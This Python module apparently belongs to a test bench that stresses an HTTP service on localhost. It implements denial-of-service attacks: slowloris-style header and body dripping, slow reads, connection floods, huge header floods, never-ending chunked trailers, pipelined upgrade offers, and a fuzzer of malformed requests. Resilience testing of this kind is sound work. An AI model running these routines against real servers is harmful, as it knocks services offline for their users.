"""Attacks below well-formed requests: on the parser, on the time that a connection may take, and on their number."""

import random
import socket
import time
from contextlib import suppress

from bench._attack import Attack
from bench._service import request_row

PAUSE_SECONDS = 0.05
OFFERS = 1_500
FIELDS = 8_000
PIPELINED = 20
_TREE = request_row("/v1/bundles/2026f/*.tar")
_HEALTH = request_row("/healthz")
_UNFINISHED = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n"
_CHUNKED = b"POST /v1/bundles HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n{\r\n"
_LONG_BODY = b"POST /v1/bundles HTTP/1.1\r\nHost: localhost\r\nContent-Length: 200000\r\n\r\n"
_SEEDS = (
    request_row("/v1/bundles/2026f/Etc/UTC.tar.gz", headers={"if-none-match": '"a"', "range": "bytes=0-9"}),
    request_row("/v2/etc/utc/manifests/latest", method="HEAD"),
    _CHUNKED + b"0\r\nX: a\r\n\r\n",
    _UNFINISHED + b"Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n{}",
    _UNFINISHED + b"Upgrade: h2c\r\nConnection: upgrade\r\n\r\n" + _HEALTH,
)


def send_trailers_without_end(attack: Attack) -> None:
    """Send four chunked bodies whose trailers never end, one of them with another name in each line."""

    def blow(connection: socket.socket) -> None:
        attack.send(connection, _CHUNKED + b"0\r\n", requests=1)
        name = 0
        while attack.goes_on:
            same = attack.connections % 4
            attack.send(
                connection, b"X: a\r\n" * 2_000 if same else b"".join(b"%d: a\r\n" % (name + n) for n in range(1_000))
            )
            name += 1_000
            attack.rest(0.01)

    attack.strike(4, blow, rest=PAUSE_SECONDS)


def send_chunk_extensions_without_end(attack: Attack) -> None:
    """Send four chunked bodies with an extension of a chunk that never ends."""

    def blow(connection: socket.socket) -> None:
        attack.send(connection, _CHUNKED + b"1;a=", requests=1)
        while attack.goes_on:
            attack.send(connection, b"a" * 12_000)
            attack.rest(0.01)

    attack.strike(4, blow, rest=PAUSE_SECONDS)


def flood_fields(attack: Attack) -> None:
    """Send requests of 8,000 header fields, each with a name of its own, in one packet if the kernel lets them."""
    request = _UNFINISHED + b"".join(b"x%d: a\r\n" % number for number in range(FIELDS)) + b"\r\n"

    def blow(connection: socket.socket) -> None:
        attack.send(connection, request, requests=1)
        connection.recv(1 << 16)

    attack.strike(2, blow, rest=PAUSE_SECONDS)


def offer_upgrades(attack: Attack) -> None:
    """Send 1,500 pipelined requests that offer to upgrade, in one packet."""
    offers = (_UNFINISHED + b"Connection: Upgrade\r\nUpgrade: h2c\r\n\r\n") * OFFERS

    def blow(connection: socket.socket) -> None:
        attack.send(connection, offers, requests=OFFERS)
        _read_for(connection, 0.5)

    attack.strike(1, blow, rest=PAUSE_SECONDS)


def fall_silent(attack: Attack) -> None:
    """Hold 300 connections that send a good request and an empty line, and nothing more."""
    attack.hold(300, _HEALTH + b"\r\n", requests=1)


def drip_headers(attack: Attack) -> None:
    """Hold 200 connections that send their headers ten bytes a second."""
    attack.hold(200, _UNFINISHED + b"X: ", more=b"a")


def drip_bodies(attack: Attack) -> None:
    """Hold 200 connections that send their bodies ten bytes a second."""
    attack.hold(200, _LONG_BODY, more=b"a")


def read_slowly(attack: Attack) -> None:
    """Hold 100 connections that ask for 20 whole trees each at once and read 10 KB a second."""
    attack.hold(100, _TREE * PIPELINED, requests=PIPELINED, reads=1_024)


def flood_connections(attack: Attack) -> None:
    """Hold 1,200 connections that say nothing; every second 100 of them leave and others come."""
    attack.hold(1_200, b"", leaves=10)


def send_garbage(attack: Attack) -> None:
    """Send requests with some bytes changed, lost, doubled or out of place, a hundred a second."""
    chance = random.Random(0)

    def blow(connection: socket.socket) -> None:
        attack.send(connection, mutate(chance.choice(_SEEDS), chance), requests=1)
        _read_for(connection, 0.02)

    attack.strike(4, blow, rest=0.02)


def mutate(request: bytes, chance: random.Random) -> bytes:
    """Return the request with up to eight changes."""
    changed = bytearray(request)
    for _ in range(chance.randint(1, 8)):
        place = chance.randrange(len(changed) + 1)
        end = place + chance.randint(0, 4)
        match chance.randrange(4):
            case 0:
                changed[place:end] = chance.randbytes(chance.randint(0, 4))
            case 1:
                changed[place:place] = changed[place : place + 40] * chance.randint(1, 20)
            case 2:
                changed[place:place] = chance.choice((b"\r\n", b"\0", b": ", b" HTTP/2.0\r\n", b"\r\n\r\n", b"\xff"))
            case _:
                del changed[place:end]
    return bytes(changed)


def _read_for(connection: socket.socket, seconds: float) -> None:
    """Take what comes for that long, or until the service closes."""
    connection.settimeout(seconds)
    end = time.monotonic() + seconds
    with suppress(TimeoutError):
        while time.monotonic() < end and connection.recv(1 << 16):
            pass
